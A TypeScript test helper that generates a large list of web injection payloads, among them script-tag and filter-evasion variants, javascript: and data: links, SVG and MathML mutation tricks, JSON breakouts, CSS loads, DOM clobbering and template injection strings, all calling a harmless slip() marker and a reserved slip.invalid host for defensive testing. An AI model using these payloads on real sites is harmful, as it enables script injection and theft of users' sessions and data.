import { handlerPayloads } from "./handler-payloads";

/**
 * Texts that would run a script, load something or put an element of their own into a page if anybody took them for
 * HTML, an address, a template, a style or JSON. Every element that they try to make carries `data-slip`, every script
 * calls `slip()`, and everything that they try to load comes from `slip.invalid`. All are of one line and at most 150
 * characters, so that they fit into names.
 */
export function scriptPayloads(): string[] {
  const all = new Set<string>();
  const add = (...texts: string[]) => texts.forEach((text) => text.length <= 150 && all.add(text));
  const tag = (name: string, rest: string) => `<${name} data-slip ${rest}>`;

  // Script elements, as they are and as filters fail to see them.
  const script = "<script data-slip>slip()</script>";
  add(script, "<SCRIPT data-slip>slip()</SCRIPT>", "<script data-slip src=//slip.invalid/1></script>");
  add(
    "<script/data-slip>slip()</script>",
    "<script\tdata-slip>slip()</script\t>",
    "<scr<script>ipt data-slip>slip()</script>",
  );
  add(
    "<<script data-slip>slip();//<</script>",
    "<script data-slip type=module>slip()</script>",
    "<script data-slip>slip()",
  );
  add("<script data-slip src=data:text/javascript,slip()></script>", `<script data-slip x=">">slip()</script>`);
  add(
    "\u017fcript<\u017fcript data-slip>slip()</\u017fcript>",
    "＜script data-slip＞slip()＜/script＞",
    "%3Cscript data-slip%3Eslip()%3C/script%3E",
  );
  add(
    "&lt;script data-slip&gt;slip()&lt;/script&gt;",
    "&#60;script data-slip&#62;slip()&#60;/script&#62;",
    "\\u003cscript data-slip\\u003eslip()\\u003c/script\\u003e",
  );
  add("\\x3cscript data-slip\\x3eslip()\\x3c/script\\x3e", "+ADw-script data-slip+AD4-slip()+ADw-/script+AD4-");

  add(...handlerPayloads());

  // Out of the JSON that a page carries for its scripts.
  add(
    `</script><script data-slip>slip()</script>`,
    `"]);slip();//`,
    `"}]);slip();//`,
    `\\"]);slip();//`,
    `\\\\"]);slip();//`,
  );
  add(
    `</script/><svg data-slip onload=slip()>`,
    `<!--<script>`,
    `<!--<script data-slip>slip()</script>`,
    `<!--`,
    `]]><script data-slip>slip()</script>`,
  );
  add(
    `"\u2028slip()\u2029//`,
    `\u2028slip()`,
    `'];slip();['`,
    `\`;slip();\``,
    "${slip()}",
    `self.__next_f.push([1,"x"])</script>`,
  );
  add(
    `:HL["//slip.invalid/x","script"]`,
    `0:["$","script",null,{"children":"slip()"}]`,
    `$L1`,
    `$undefined`,
    `$@1`,
    `$F1`,
    `$1`,
    `["$","img",null,{"src":"x"}]`,
  );
  add(`{"__html":"<img data-slip src=x onerror=slip()>"}`, `{"dangerouslySetInnerHTML":{"__html":"<b data-slip>"}}`);

  // Addresses that are no addresses, where a link or a picture might take them.
  const addresses = [
    "javascript:slip()",
    "JaVaScRiPt:slip()",
    "java\tscript:slip()",
    " javascript:slip()",
    "\u0001javascript:slip()",
    "javascript&colon;slip()",
    "javascript&#58;slip()",
    "&#106;avascript:slip()",
    "javascript:/*https://x*/slip()",
    "javascript://https://slip.invalid/%0aslip()",
    "data:text/html,<script>slip()</script>",
    "data:text/html;base64,PHNjcmlwdD5zbGlwKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=slip()>",
    "vbscript:slip()",
    "blob:slip()",
    "feed:javascript:slip()",
    "view-source:javascript:slip()",
    "//slip.invalid",
  ];
  for (const address of addresses) {
    add(
      address,
      `[press](${address})`,
      `![look](${address})`,
      `<${address}>`,
      `<a data-slip href="${address}">press</a>`,
    );
  }

  // Markdown and links in each other's way.
  const link = "https://example.com/";
  add(
    `${link}"onmouseover=slip()//`,
    `${link}'onclick=slip()`,
    `${link}<img/data-slip/src=x/onerror=slip()>`,
    `${link}\`onclick=slip()`,
  );
  add(
    `**${tag("b", "")}**`,
    `*_~~${script}~~_*`,
    `\`${script}\``,
    `\`\`\`${script}\`\`\``,
    `> ${script}`,
    `- ${script}`,
    `1. ${script}`,
  );
  add(
    `[a](${link} "onclick=slip()")`,
    `[a]: javascript:slip()`,
    `[<img data-slip src=x onerror=slip()>](${link})`,
    `![" onerror=slip() x="](x)`,
  );
  add(
    `**${link}**onclick=slip()**`,
    `_${link}_<svg data-slip onload=slip()>`,
    `@all<img data-slip src=x onerror=slip()>`,
    `@alice"onclick="slip()`,
  );
  add(
    `<mark data-slip>mark</mark>`,
    `<mark><img data-slip src=x onerror=slip()></mark>`,
    `&lt;mark&gt;${script}`,
    `<\0mark>`.replace("\0", ""),
  );

  // SVG, MathML, and HTML that changes its meaning when it is read twice.
  add(
    `<svg data-slip><script>slip()</script></svg>`,
    `<svg data-slip><a xlink:href=javascript:slip()><text>press</text></a></svg>`,
  );
  add(
    `<svg data-slip><animate onbegin=slip() attributeName=x dur=1s>`,
    `<svg data-slip><set onbegin=slip() attributename=x>`,
  );
  add(
    `<svg data-slip><use href="data:image/svg+xml,<svg id='x'/>#x">`,
    `<svg data-slip><foreignObject><body onload=slip()>`,
  );
  add(`<svg data-slip><style><img src=x onerror=slip()></style></svg>`, `<svg data-slip><image href=//slip.invalid/s>`);
  add(
    `<math data-slip><mtext><table><mglyph><style><img src=x onerror=slip()>`,
    `<math data-slip href=javascript:slip()>press</math>`,
  );
  add(
    `<math data-slip><annotation-xml encoding=text/html><img src=x onerror=slip()>`,
    `<math data-slip><mi xlink:href=javascript:slip()>x`,
  );
  add(
    `<noscript><p title="</noscript><img data-slip src=x onerror=slip()>">`,
    `<style><p title="</style><img data-slip src=x onerror=slip()>">`,
  );
  add(
    `<textarea><p title="</textarea><img data-slip src=x onerror=slip()>">`,
    `<title><a id="</title><img data-slip src=x onerror=slip()>">`,
  );
  add(
    `<form data-slip><math><mtext></form><form><mglyph><style></math><img src=x onerror=slip()>`,
    `<table data-slip><td><svg><desc><td onload=slip()>`,
  );
  add(
    `<xmp><p title="</xmp><img data-slip src=x onerror=slip()>">`,
    `<plaintext data-slip>`,
    `<template data-slip><script>slip()</script></template>`,
  );
  add(
    `<p data-slip is=x-x>`,
    `<template data-slip shadowrootmode=open><img src=x onerror=slip()></template>`,
    `<a data-slip><b><a>x`,
  );

  // What leads away or takes over without a script.
  add(
    `<base data-slip href=//slip.invalid/>`,
    `<meta data-slip http-equiv=refresh content="0;//slip.invalid">`,
    `<meta data-slip http-equiv=set-cookie content=a=b>`,
  );
  add(
    `<form data-slip action=//slip.invalid><button>press</button></form>`,
    `<button data-slip formaction=javascript:slip()>press</button>`,
  );
  add(
    `<input data-slip type=image src=//slip.invalid/n formaction=//slip.invalid>`,
    `<link data-slip rel=prefetch href=//slip.invalid/p>`,
  );
  add(
    `<iframe data-slip srcdoc="<script>parent.slip()</script>"></iframe>`,
    `<object data-slip data=//slip.invalid/o></object>`,
  );
  add(
    `<img data-slip name=cookie id=cookie>`,
    `<a data-slip id=slip name=innerHTML>`,
    `<form data-slip name=body><input name=attributes>`,
  );
  add(
    `<style data-slip>@import "//slip.invalid/c";</style>`,
    `<div data-slip style="background:url(//slip.invalid/b)">`,
    `<style data-slip>*{display:none}</style>`,
  );
  add(
    `}</style><style data-slip>*{background:url(//slip.invalid/u)}`,
    `;background:url(//slip.invalid/v)`,
    `red;x:expression(slip())`,
    `\\65xpression(slip())`,
  );
  add(`url(javascript:slip())`, `behavior:url(#slip)`, `-moz-binding:url(//slip.invalid/m#x)`);

  // Templates of all kinds.
  add(
    "{{slip()}}",
    "{{constructor.constructor('slip()')()}}",
    "${slip()}",
    "#{slip()}",
    "<%= slip() %>",
    "{%raw%}<script data-slip>slip()</script>{%endraw%}",
  );
  add(
    "{{#with this}}{{/with}}",
    "{slip()}",
    "{{{<img data-slip src=x onerror=slip()>}}}",
    "*{slip()}",
    "@(slip())",
    "[[${slip()}]]",
    "{count, plural, other{<b data-slip>#</b>}}",
  );
  add(
    "<b>{name}</b>",
    "{name}",
    "%s%s%n",
    "$&$`$'",
    "$<slip>",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
  );

  // Letters that nobody sees, that turn the direction round, or that are not what they seem.
  for (const odd of [
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u00ad",
    "\u2028",
    "\u0338",
    "\u{e0041}",
    "\ufffe",
    "\ufff9",
    "\u115f",
  ]) {
    add(`a${odd}<img${odd} data-slip src=x onerror=slip()>`, `${odd}${script}${odd}`, `java${odd}script:slip()`);
  }
  add(
    "Z\u0335\u0321\u0322\u0323".repeat(8) + script,
    "\u0600\u0601﷽".repeat(3) + script,
    "\ud83d".toWellFormed() + script,
  );
  return [...all];
}
